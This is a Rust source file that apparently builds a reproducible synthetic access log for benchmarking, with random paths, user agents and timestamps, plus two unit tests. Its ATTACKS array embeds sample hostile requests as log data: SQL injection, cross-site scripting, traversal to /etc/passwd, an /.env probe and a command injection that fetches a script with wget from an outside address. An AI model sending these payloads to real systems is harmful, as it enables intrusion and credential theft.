//! Makes an access log to measure with: ordinary visitors of a site with many distinct paths,
//! agents and addresses, one request in ten with a query, and an attack now and then. The same
//! size gives the same bytes.

use std::fs::{self, File};
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};

use crate::repo::Repo;

/// The log of this many MiB, made if it is not there yet.
pub fn log(repo: &Repo, mebibytes: u64) -> Result<PathBuf> {
    let path = repo.target.join("bench").join(format!("access-{mebibytes}.log"));
    let size = mebibytes << 20;
    if fs::metadata(&path).is_ok_and(|found| found.len() >= size) {
        return Ok(path);
    }
    println!("Making {} ({mebibytes} MiB)", path.display());
    let partial = path.with_extension("partial");
    write(&partial, size).with_context(|| format!("cannot write {}", partial.display()))?;
    fs::rename(&partial, &path)?;
    Ok(path)
}

fn write(path: &Path, size: u64) -> std::io::Result<()> {
    fs::create_dir_all(path.parent().unwrap_or(Path::new(".")))?;
    let mut out = BufWriter::with_capacity(1 << 20, File::create(path)?);
    let mut random = Random(0x5e15_0c0d_e000_0001);
    let mut written = 0;
    let mut at = 0;
    while written < size {
        let line = line(&mut random, at);
        out.write_all(line.as_bytes())?;
        written += line.len() as u64;
        at += 1;
    }
    out.flush()
}

/// xorshift64*: enough for variety, and the same everywhere.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, bound: u64) -> u64 {
        (self.next() >> 33) % bound
    }

    fn one_of<'a>(&mut self, all: &[&'a str]) -> &'a str {
        all[self.below(all.len() as u64) as usize]
    }
}

const SECTIONS: [&str; 12] = [
    "articles",
    "products",
    "images",
    "static/js",
    "static/css",
    "forum/topic",
    "users",
    "api/v1/items",
    "downloads",
    "blog/2021/05",
    "docs/guide",
    "assets/fonts",
];
const ENDINGS: [&str; 8] = ["", ".html", ".jpg", ".png", ".js", ".css", ".php", "/"];
const SYSTEMS: [&str; 6] = [
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "iPhone; CPU iPhone OS 14_5 like Mac OS X",
    "Linux; Android 11; SM-G991B",
    "Windows NT 6.1; WOW64",
];
const ATTACKS: [&str; 5] = [
    "/item.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--%20-",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/view?file=../../../../etc/passwd",
    "/.env",
    "/cgi-bin/luci?cmd=;wget%20http://198.51.100.9/x.sh",
];
const STATUSES: [&str; 10] = ["200", "200", "200", "200", "200", "200", "304", "301", "404", "500"];

/// Eight requests a second.
fn line(random: &mut Random, at: u64) -> String {
    let client = random.below(200_000);
    let address = format!(
        "{}.{}.{}.{}",
        11 + client % 180,
        client / 180 % 256,
        client / 46_080,
        client % 251
    );
    let size = random.below(90_000);
    format!(
        "{address} - - [{}] \"{} {} HTTP/1.1\" {} {size} \"{}\" \"{}\"\n",
        time(at / 8),
        random.one_of(&["GET", "GET", "GET", "GET", "GET", "GET", "GET", "GET", "POST", "HEAD"]),
        target(random),
        random.one_of(&STATUSES),
        referer(random),
        agent(client),
    )
}

fn target(random: &mut Random) -> String {
    let kind = random.below(100_000);
    if kind < 20 {
        return random.one_of(&ATTACKS).to_owned();
    }
    let path = format!(
        "/{}/{}{}",
        random.one_of(&SECTIONS),
        random.below(400_000),
        random.one_of(&ENDINGS)
    );
    if kind < 10_000 {
        return format!(
            "{path}?page={}&sort={}&q=word{}",
            random.below(50),
            random.one_of(&["new", "top"]),
            random.below(9_000)
        );
    }
    path
}

fn referer(random: &mut Random) -> String {
    match random.below(3) {
        0 => "-".to_owned(),
        1 => format!("https://www.example.org/{}/", random.one_of(&SECTIONS)),
        _ => {
            format!("https://www.example.org/{}/{}", random.one_of(&SECTIONS), random.below(20_000))
        }
    }
}

fn agent(client: u64) -> String {
    let system = SYSTEMS[(client % 6) as usize];
    let version = 70 + client % 40;
    format!(
        "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.{}.{} Safari/537.36",
        3000 + client % 1500,
        client % 150
    )
}

/// From 1 May 2021 on; a month has 28 days here, which is all that the log needs.
fn time(second: u64) -> String {
    const MONTHS: [&str; 8] = ["May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
    let day = second / 86_400;
    format!(
        "{:02}/{}/2021:{:02}:{:02}:{:02} +0900",
        1 + day % 28,
        MONTHS[(day / 28 % 8) as usize],
        second / 3600 % 24,
        second / 60 % 60,
        second % 60
    )
}

#[cfg(test)]
mod tests {
    use super::{Random, line, time};

    #[test]
    fn times_are_those_of_access_logs() {
        assert_eq!(time(0), "01/May/2021:00:00:00 +0900");
        assert_eq!(time(86_400 * 28 + 3_661), "01/Jun/2021:01:01:01 +0900");
    }

    #[test]
    fn a_line_has_six_quotes() {
        let mut random = Random(1);
        for at in 0..1000 {
            assert_eq!(line(&mut random, at).matches('"').count(), 6);
        }
    }
}
